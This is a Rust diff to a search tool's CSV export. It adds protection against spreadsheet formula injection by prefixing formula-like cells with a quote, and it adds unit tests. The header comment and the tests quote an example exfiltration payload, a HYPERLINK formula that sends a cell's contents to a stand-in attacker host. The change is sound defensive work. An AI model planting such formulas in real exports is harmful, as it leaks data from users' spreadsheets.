@@ -3,6 +3,12 @@
 //! get a row of their own, at the hit's rank, so that an export of `--all` has as many rows as
 //! the search counts. CSV is UTF-8, quoted as RFC 4180 says, with a header; a snippet is plain
 //! text (no markup), its page in a column of its own.
+//!
+//! A cell that starts with `=`, `+`, `-`, `@`, a tab or a carriage return is a formula to
+//! Excel, and to LibreOffice when it evaluates formulas on import: a document titled
+//! `=HYPERLINK("http://evil.example/?x="&A1,"click")` would run in the archivist's spreadsheet.
+//! Such cells get a leading `'`, as OWASP advises (spreadsheets show the rest as text), unless
+//! `--csv-raw` asks for the bytes. JSON lines are never changed.
 
 use std::io::{self, Write};
 
@@ -31,8 +37,12 @@ pub const CSV_COLUMNS: [&str; 15] = [
 ];
 
 pub enum Export<W: Write> {
-    /// Boxed: the writer holds its buffer inline, and one exists per search.
-    Csv(Box<csv::Writer<W>>),
+    /// Boxed: the writer holds its buffer inline, and one exists per search. With `raw`,
+    /// formulas are left as they are.
+    Csv {
+        writer: Box<csv::Writer<W>>,
+        raw: bool,
+    },
     Jsonl(W),
 }
 
@@ -45,11 +55,14 @@ struct Line<'a> {
 }
 
 impl<W: Write> Export<W> {
-    /// CSV, its header written.
-    pub fn csv(out: W) -> io::Result<Export<W>> {
+    /// CSV, its header written; `raw` leaves cells that look like formulas as they are.
+    pub fn csv(out: W, raw: bool) -> io::Result<Export<W>> {
         let mut writer = csv::Writer::from_writer(out);
         writer.write_record(CSV_COLUMNS)?;
-        Ok(Export::Csv(Box::new(writer)))
+        Ok(Export::Csv {
+            writer: Box::new(writer),
+            raw,
+        })
     }
 
     pub fn jsonl(out: W) -> Export<W> {
@@ -65,11 +78,14 @@ impl<W: Write> Export<W> {
                 // A copy: its own path and id, the others as its copies.
                 let id = copy.map(|c| crate::schema::document_id(c, part));
                 match self {
-                    Export::Csv(writer) => {
+                    Export::Csv { writer, raw } => {
                         let mut row = row(query, hit);
                         if let (Some(copy), Some(id)) = (copy, &id) {
                             row[3] = id.clone();
                             row[4] = crate::path_key::shown(copy);
+                        }
+                        if !*raw {
+                            row.iter_mut().for_each(neutralize);
                         }
                         writer.write_record(row)?;
                     }
@@ -97,7 +113,7 @@ impl<W: Write> Export<W> {
 
     pub fn flush(&mut self) -> io::Result<()> {
         match self {
-            Export::Csv(writer) => writer.flush(),
+            Export::Csv { writer, .. } => writer.flush(),
             Export::Jsonl(out) => out.flush(),
         }
     }
@@ -123,4 +139,39 @@ fn row(query: &str, hit: &Hit) -> [String; 15] {
         about.ocr.map(|c| format!("{c:.1}")).unwrap_or_default(),
         hit.snippet.text.clone(),
     ]
+}
+
+/// A cell a spreadsheet would read as a formula, made text with a leading `'`. Only the numbers
+/// this program writes (rank, score, page, confidence) may start with a sign, and none does.
+fn neutralize(cell: &mut String) {
+    if cell.starts_with(['=', '+', '-', '@', '\t', '\r']) {
+        cell.insert(0, '\'');
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::neutralize;
+
+    #[test]
+    fn formulas_become_text() {
+        for (cell, shown) in [
+            (
+                "=HYPERLINK(\"http://evil.example\")",
+                "'=HYPERLINK(\"http://evil.example\")",
+            ),
+            ("+1+1", "'+1+1"),
+            ("-2+3", "'-2+3"),
+            ("@SUM(A1)", "'@SUM(A1)"),
+            ("\t=1", "'\t=1"),
+            ("\r=1", "'\r=1"),
+            ("Maizuru = port", "Maizuru = port"),
+            ("0.51", "0.51"),
+            ("", ""),
+        ] {
+            let mut cell = cell.to_string();
+            neutralize(&mut cell);
+            assert_eq!(cell, shown);
+        }
+    }
 }
